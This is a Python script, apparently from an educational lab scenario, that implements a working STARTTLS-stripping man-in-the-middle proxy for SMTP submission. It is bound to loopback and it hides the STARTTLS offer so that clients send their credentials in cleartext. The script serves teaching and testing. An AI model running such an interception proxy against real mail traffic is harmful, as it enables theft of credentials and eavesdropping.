#!/usr/bin/env python3
"""The on-path attacker of the Learn scenario "STARTTLS stripped": listens on
127.0.0.5:587 and relays to the real submission server 127.0.0.1:587.

Towards the server it behaves like a careful client: EHLO, STARTTLS, TLS,
EHLO again. Towards the victim it stays in cleartext and hands over the
server's post-TLS capability list with STARTTLS overwritten by "XXXXXXXA"
(the mark real stripping middleboxes left, reported by the EFF in 2014).
A client that only uses STARTTLS "when offered" then authenticates in
cleartext, to the attacker, and the server sees a perfectly good TLS session.
Loopback only."""
import asyncio, ssl


async def read_reply(reader):
    lines = []
    while True:
        line = await reader.readline()
        if not line:
            break
        lines.append(line)
        if len(line) < 4 or line[3:4] != b"-":
            break
    return lines


async def handle(c_reader, c_writer):
    s_reader, s_writer = await asyncio.open_connection("127.0.0.1", 587)
    c_writer.write(b"".join(await read_reply(s_reader)))          # 220 greeting
    ehlo = await c_reader.readline()                                # victim's EHLO
    s_writer.write(ehlo)
    cleartext = await read_reply(s_reader)                          # has STARTTLS, no AUTH
    s_writer.write(b"STARTTLS\r\n")
    await read_reply(s_reader)                                      # 220 Ready to start TLS
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    await s_writer.start_tls(ctx, server_hostname="mail.example.test")
    s_writer.write(ehlo)
    encrypted = await read_reply(s_reader)                          # has AUTH, no STARTTLS
    out = []
    for line in encrypted:
        out.append(line)
        if line.startswith(b"250-ETRN"):                            # where STARTTLS stood
            out.append(b"250-XXXXXXXA\r\n")
    c_writer.write(b"".join(out))

    async def pump(r, w):
        while data := await r.read(65536):
            w.write(data)
            await w.drain()
        w.close()

    await asyncio.gather(pump(c_reader, s_writer), pump(s_reader, c_writer))


async def main():
    server = await asyncio.start_server(handle, "127.0.0.5", 587)
    print("strip proxy on 127.0.0.5:587", flush=True)
    async with server:
        await server.serve_forever()


asyncio.run(main())
